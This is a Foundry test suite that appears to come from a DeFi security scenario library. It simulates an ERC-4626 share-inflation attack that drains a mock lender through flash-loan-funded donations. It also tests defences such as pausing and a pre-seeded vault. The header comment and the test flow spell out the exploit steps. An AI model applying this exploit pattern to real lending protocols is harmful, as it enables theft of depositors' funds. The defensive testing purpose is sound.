// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Pausable} from "@openzeppelin/contracts/utils/Pausable.sol";
import {ScenarioFixture} from "./ScenarioFixture.sol";
import {FlashFunded} from "../../src/scenarios/common/FlashFunded.sol";
import {DonationVaultAttacker} from "../../src/scenarios/attacks/DonationVaultAttacker.sol";
import {CloneRunner} from "../../src/scenarios/attacks/CloneRunner.sol";

/// @notice Pattern 6 (ERC-4626 inflation, Hundred / Sonne shape) against VaultShareLender
/// (1M USD liquidity, LTV 75%) and its freshly listed, empty DonationVault.
/// Attack: deposit 2 wei (2 shares) as collateral, donate 3M USD (1 share ~ 1.5M USD), borrow
/// everything, withdraw the donation back burning one share: ~3M USD of capital.
contract DonationVaultScenarioTest is ScenarioFixture {
    uint256 internal constant SEED = 2;
    uint256 internal constant DONATION = 3_000_000 * USD;

    DonationVaultAttacker internal attacker;

    function setUp() public override {
        super.setUp();
        vm.prank(attackerEoa);
        attacker = new DonationVaultAttacker();
    }

    function _params(uint256 seed) internal view returns (DonationVaultAttacker.Params memory) {
        return DonationVaultAttacker.Params({lender: shareLender, seedAssets: seed, donation: DONATION});
    }

    function _assertDrained(uint256 profit, address worker) internal view {
        assertEq(shareLender.liquidity(), 0, "lender drained");
        assertGt(profit, (VICTIM_USD * 95) / 100, "profit > 95% of the lender's liquidity");
        assertEq(shareLender.debtOf(worker), VICTIM_USD, "bad debt left behind");
        assertLe(shareLender.collateralValue(worker), 1, "collateral worth ~nothing");
        assertEq(usd.balanceOf(worker), 0, "attack contract empty");
    }

    function test_everyFundingSource_drainsLender() public {
        for (uint8 s = 0; s < sourceCount(); ++s) {
            uint256 snap = vm.snapshotState();
            FlashFunded.Source src = FlashFunded.Source(s);
            FlashFunded.Funding memory f = usdFunding(src, DONATION + SEED, address(attacker));
            vm.prank(attackerEoa);
            attacker.execute(f, _params(SEED));
            _assertDrained(netProfit(src, DONATION + SEED), address(attacker));
            vm.revertToState(snap);
        }
    }

    /// @dev tx1 (own 2 wei) becomes the vault's first depositor and posts the shares; tx2 later
    /// donates and borrows with a Balancer-style loan.
    function test_twoTransactions_prepareThenFlash() public {
        usd.mint(attackerEoa, SEED);
        vm.startPrank(attackerEoa);
        require(usd.transfer(address(attacker), SEED), "fund");
        assertEq(attacker.prepare(shareLender, SEED), SEED, "2 shares posted");
        vm.stopPrank();

        vm.roll(block.number + 2);
        FlashFunded.Funding memory f = usdFunding(FlashFunded.Source.BalancerStyle, DONATION, address(attacker));
        vm.prank(attackerEoa);
        attacker.execute(f, _params(0));
        _assertDrained(usd.balanceOf(attackerEoa), address(attacker));
    }

    function test_cloneRunner_withUniswapV2FlashSwap() public {
        CloneRunner runner = new CloneRunner();
        FlashFunded.Funding memory f = usdFunding(FlashFunded.Source.UniswapV2FlashSwap, DONATION + SEED, address(0));
        IERC20[] memory sweep = new IERC20[](1);
        sweep[0] = IERC20(address(usd));
        vm.prank(attackerEoa);
        address clone =
            runner.run(address(attacker), abi.encodeCall(DonationVaultAttacker.execute, (f, _params(SEED))), sweep);
        _assertDrained(usd.balanceOf(attackerEoa), clone);
    }

    function test_paused_attackReverts() public {
        vm.prank(guardian);
        shareLender.pause();
        for (uint8 s = 0; s < sourceCount(); ++s) {
            FlashFunded.Funding memory f = usdFunding(FlashFunded.Source(s), DONATION + SEED, address(attacker));
            vm.expectRevert(Pausable.EnforcedPause.selector);
            vm.prank(attackerEoa);
            attacker.execute(f, _params(SEED));
        }
        assertEq(shareLender.liquidity(), VICTIM_USD, "lender intact");
    }

    function test_pausedVault_attackReverts() public {
        vm.prank(guardian);
        donationVault.pause();
        FlashFunded.Funding memory f = usdFunding(FlashFunded.Source.AaveStyle, DONATION + SEED, address(attacker));
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vm.prank(attackerEoa);
        attacker.execute(f, _params(SEED));
    }

    /// @dev Once honest deposits sit in the vault, the donation goes mostly to them and the same
    /// attack cannot pay back its loan.
    function test_seededVault_attackUnprofitable() public {
        _deposit(bob, 1_000_000 * USD);
        FlashFunded.Funding memory f = usdFunding(FlashFunded.Source.ERC3156, DONATION + SEED, address(attacker));
        vm.expectPartialRevert(FlashFunded.CannotRepay.selector);
        vm.prank(attackerEoa);
        attacker.execute(f, _params(SEED));
    }

    /// @dev Benign: large deposit, borrow within LTV, repay, withdraw; lender and vault whole.
    function test_benign_largeDepositBorrowRepayWithdraw() public {
        uint256 shares = _deposit(bob, 2_000_000 * USD);
        vm.startPrank(bob);
        IERC20(address(donationVault)).approve(address(shareLender), shares);
        shareLender.depositCollateral(shares);
        assertEq(shareLender.maxBorrow(bob), 1_500_000 * USD, "75% of 2M");
        shareLender.borrow(800_000 * USD);
        vm.roll(block.number + 10);
        usd.approve(address(shareLender), 800_000 * USD);
        shareLender.repay(800_000 * USD);
        shareLender.withdrawCollateral(shares);
        uint256 out = donationVault.redeem(shares, bob);
        vm.stopPrank();
        assertEq(out, 2_000_000 * USD, "bob whole");
        assertEq(shareLender.liquidity(), VICTIM_USD, "lender whole");
        assertEq(donationVault.totalSupply(), 0, "vault emptied by its only depositor");
    }

    function _deposit(address who, uint256 amount) internal returns (uint256 shares) {
        usd.mint(who, amount);
        vm.startPrank(who);
        usd.approve(address(donationVault), amount);
        shares = donationVault.deposit(amount, who);
        vm.stopPrank();
    }
}
